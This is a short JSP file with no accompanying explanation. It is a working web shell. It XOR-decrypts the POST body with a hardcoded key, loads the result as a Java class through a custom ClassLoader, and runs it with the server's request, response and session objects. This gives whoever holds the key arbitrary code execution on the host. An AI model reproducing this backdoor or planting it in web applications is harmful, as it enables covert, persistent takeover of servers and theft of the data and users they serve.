<%@ page import="java.io.*" %><%!
class Q extends ClassLoader { Q(ClassLoader p) { super(p); } Class d(byte[] b) { return defineClass(b, 0, b.length); } }
byte[] x(byte[] s, String k) { byte[] r = new byte[s.length]; for (int i = 0; i < s.length; i++) r[i] = (byte) (s[i] ^ k.charAt(i + 1 & 15)); return r; }
%><%
if (request.getContentLength() > 0) {
    String k = "4f0b9cd1e7a2356f";
    session.setAttribute("u", k);
    InputStream in = request.getInputStream();
    ByteArrayOutputStream bo = new ByteArrayOutputStream();
    byte[] buf = new byte[4096]; int n;
    while ((n = in.read(buf)) != -1) bo.write(buf, 0, n);
    Object o = new Q(getClass().getClassLoader()).d(x(bo.toByteArray(), k)).newInstance();
    o.equals(new Object[]{request, response, session});
}
%>
